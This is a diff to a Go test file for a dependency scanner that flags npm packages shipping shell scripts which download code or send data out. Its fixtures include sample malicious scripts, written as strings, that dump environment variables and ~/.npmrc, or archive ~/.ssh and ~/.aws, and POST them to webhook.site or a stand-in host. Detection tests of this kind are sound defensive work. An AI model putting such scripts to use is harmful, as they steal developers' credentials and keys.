@@ -1,6 +1,7 @@
 package install
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -26,6 +27,10 @@ func TestShellDownloadExec(t *testing.T) {
 		{"shipped_sh_env_to_bin", map[string]string{"package.json": rt.Pkg(`"bin":{"t":"cli.js"}`), "cli.js": "require('child_process').spawn('sh', [__dirname + '/scripts/check.sh'], {detached: true})",
 			"scripts/check.sh": "#!/bin/sh\nOUT=$(mktemp)\n{ env; cat \"$HOME/.npmrc\"; } > \"$OUT\"\ngzip -c \"$OUT\" | base64 | curl -s -X POST --data-binary @- https://webhook.site/0f6c-test\n"}, finding.SeverityCritical},
 		{"shipped_sh_keys_to_host", map[string]string{"package.json": rt.Pkg(``), "tools/sync": "#!/usr/bin/env bash\ntar czf - -C \"$HOME\" .ssh .aws | curl -s -X POST --data-binary @- https://sync.example.invalid/u\n"}, finding.SeverityHigh},
+		// a long toolchain script: the environment here, a download there
+		{"shipped_toolchain_script", map[string]string{"package.json": rt.Pkg(``), "scripts/cross.sh": "#!/usr/bin/env bash\nenv | sort\n" + strings.Repeat("# configure the cross compiler for the next architecture in the list\n", 80) + "wget --no-verbose https://toolchains.example.invalid/gcc.tar.bz2\ncurl -s -X POST --data-binary @build.log https://ci.example.invalid/logs\n"}, finding.SeverityNone},
+		// the interpreter line is no environment dump
+		{"shipped_env_shebang_download", map[string]string{"package.json": rt.Pkg(``), "scripts/fetch.sh": "#!/usr/bin/env bash\nset -eo pipefail\nwget --no-verbose https://toolchains.example.invalid/gcc.tar.bz2\ncurl -s -X POST --data-binary @build.log https://ci.example.invalid/logs\n"}, finding.SeverityNone},
 		// an integration test posting to the server it started
 		{"shipped_test_localhost", map[string]string{"package.json": rt.Pkg(``), "integration/test.sh": "#!/usr/bin/bash\nNUMBER=$RANDOM\ncurl -i -X POST -H 'Content-Type: application/json' localhost:3000/post/$NUMBER --data {} > POST\nenv | grep -q CI && cat ~/.npmrc | curl -s -X POST --data-binary @- http://127.0.0.1:3000/echo\n"}, finding.SeverityNone},
 		// a release script the maintainers run: a token used, not sent
